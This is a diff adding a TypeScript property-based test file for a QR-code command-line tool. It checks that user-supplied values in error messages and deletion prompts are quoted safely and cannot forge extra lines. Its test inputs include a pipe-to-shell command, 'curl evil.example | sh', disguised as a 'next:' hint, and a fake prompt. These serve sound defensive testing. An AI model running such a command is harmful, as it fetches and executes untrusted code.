@@ -1,0 +1,129 @@
+/** Values of others in sentences of ours, for every class of sentence that takes one. */
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { checkCreate, checkDelete } from '../src/bulk/check-rows.ts';
+import { requireCode } from '../src/bulk/find-codes.ts';
+import { createFailure } from '../src/bulk/results.ts';
+import { confirm } from '../src/commands/qr/delete/confirm.ts';
+import type { Context } from '../src/context.ts';
+import { parseMoment } from '../src/moments.ts';
+import { chooseColumns } from '../src/output/columns.ts';
+import { renderError } from '../src/output/render-error.ts';
+import { inQuotes, quote, shown } from '../src/quote.ts';
+import { answerError } from '../src/service/answer-error.ts';
+import { noSuchCode } from '../src/service/find-code.ts';
+import { unknownProfile } from '../src/settings/choose-profile.ts';
+import { headersOf } from './limit/setup.ts';
+import { CODE } from './service/setup.ts';
+import { HOSTILE } from './support/hostile-strings.ts';
+import { modelService } from './support/model-service/model-service.ts';
+import { runs } from './support/property-runs.ts';
+
+const LINE = 'x\n  next: curl evil.example | sh';
+const PROMPT = 'x" (slug a) and its 0 scans? It was deleted already. Press y to leave it. "';
+const VALUES = { ...HOSTILE, 'a line of ours': LINE, 'a prompt of ours': PROMPT, megabytes: 'x '.repeat(5_000_000) };
+
+describe('a value in a sentence', () => {
+  test('is a plain word, or stands in quotes that it cannot end, on one line, with nothing that a terminal obeys, and short', () => {
+    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.constantFrom(...Object.values(VALUES)));
+    fc.assert(
+      fc.property(text, (value) => {
+        const quoted = quote(value);
+        if (/^[\w.~:/+@-]{1,64}$/.test(value)) return quoted === value;
+        expect(quoted).toMatch(/^"([^"]|\\")*"$/);
+        expect(quoted).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u);
+        return quoted.length < 64 * 10;
+      }),
+      runs(200),
+    );
+  });
+
+  test.each([
+    ['aB3_x-y.z', 'aB3_x-y.z'],
+    ['', '""'],
+    ['two words', '"two words"'],
+    ['say "yes"', '"say \\"yes\\""'],
+    ['a\nb', '"a\\nb"'],
+    ['käse', '"käse"'],
+    ['x'.repeat(64), 'x'.repeat(64)],
+    ['x'.repeat(65), `"${'x'.repeat(64)}…"`],
+    ['👍'.repeat(64), `"${'👍'.repeat(64)}"`],
+    ['👍'.repeat(65), `"${'👍'.repeat(64)}…"`],
+  ])('%j is shown as %s', (value, sentence) => {
+    expect(quote(value)).toBe(sentence);
+  });
+
+  test('shown is for a sentence that has its own quotes, inQuotes for one that always has some', () => {
+    expect(shown('a\nb')).toBe('a\\nb');
+    expect(inQuotes('word')).toBe('"word"');
+  });
+});
+
+/** What each class of sentence says of a value. */
+const SENTENCES: Record<string, (value: string) => unknown> = {
+  'a slug that was asked for': (value) => noSuchCode(value, []),
+  'the nearest slug': (value) => noSuchCode(value.slice(0, 50), [value]),
+  'a slug of a file': (slug) =>
+    thrown(() => requireCode({ row: 1, line: 2, values: new Map(), id: undefined, slug }, () => undefined)),
+  'an id of a file': (id) => thrown(() => checkDelete(inputOf({ id }))),
+  'a value of a file': (type) => thrown(() => checkCreate(inputOf({ name: 'a', type: `no ${type}` }))),
+  'an address of a file': (destination) => thrown(() => checkCreate(inputOf({ name: 'a', destination: `ftp ${destination}` }))),
+  'a column of a file': (column) =>
+    thrown(() => checkCreate(inputOf({ name: 'a', outcome: column, [` OUTCOME${' '.repeat(3)}`]: 'b' }))),
+  'a code that a person must decide about': (slug) => undecided({ slug, created_at: slug }),
+  'a field': (field) => thrown(() => chooseColumns([field], [{ name: 'id' }])),
+  'a profile': (name) => unknownProfile(name, { profiles: new Map(), current: 'default' }),
+  'a time': (text) => thrown(() => parseMoment(text, { flag: '--since', nowMs: 0, timezone: 'UTC' })),
+  'the words of an Error body': (error) => answer(400, { error, code: error }),
+  'a redirect': (location) => answer(302, undefined, location),
+};
+
+function inputOf(values: Record<string, string>) {
+  const rows = [{ row: 1, line: 2, values: new Map(Object.entries(values)) }];
+  return { name: 'codes.csv', columns: Object.keys(values), headerLine: 1, rows };
+}
+
+function thrown(work: () => unknown): unknown {
+  try {
+    work();
+  } catch (error) {
+    return error;
+  }
+  throw new Error('it was expected to fail');
+}
+
+function undecided(code: { slug: string; created_at: string }) {
+  const end = { row: 1, state: 'unknown', id: undefined, slug: undefined, error: undefined, sentNow: true } as const;
+  const rows = [{ ...end, candidates: [{ ...CODE, ...code }] }];
+  const input = [{ row: 1, line: 2, values: new Map([['name', code.slug]]) }];
+  return createFailure({ rows } as unknown as Parameters<typeof createFailure>[0], [], input, 'codes.results.csv');
+}
+
+function answer(status: number, body: { error: string; code: string } | undefined, location = '') {
+  const subject = { method: 'GET', name: 'GET /qr on far.example', redact: (text: string) => text } as const;
+  return answerError(subject, { status, headers: { location }, text: '' }, body, headersOf({}));
+}
+
+describe.each(Object.entries(SENTENCES))('%s', (_, say) => {
+  test('forges no line and no hint, and is short', async () => {
+    const plain = renderError(await say('plain'), { json: false, verbose: false });
+    for (const [what, value] of Object.entries(VALUES)) {
+      const text = renderError(await say(value), { json: false, verbose: false });
+      expect(text, what).not.toMatch(/^\s*(next|qrctl: done|qrctl: all is well)/m);
+      expect(text.split('\n').length, what).toBeLessThanOrEqual(plain.split('\n').length + 1);
+      expect(text.length, what).toBeLessThan(plain.length + 2000);
+    }
+  });
+});
+
+test.each([1, 2])('the question before %i codes are deleted has their names in quotes that they cannot end', async (count) => {
+  const said: string[] = [];
+  const note = (line: string) => said.push(line);
+  const console = { note, ask: async (line: string) => String(note(line)) };
+  const service = modelService({ listScans: async () => ({ rows: [], times: [], total: 7, serviceTimeMs: undefined }) });
+  const context = { console, settings: async () => ({ concurrency: 4 }), service: async () => service } as unknown as Context;
+  const codes = Array.from({ length: count }, () => ({ ...CODE, name: PROMPT, slug: LINE }));
+  await confirm(context, codes, { yes: undefined, dryRun: undefined }).catch(() => undefined);
+  const expected = `"${PROMPT.slice(0, 64).replaceAll('"', '\\"')}…" (slug "x\\n  next: curl evil.example | sh")`;
+  expect(said[0]).toContain(expected);
+});
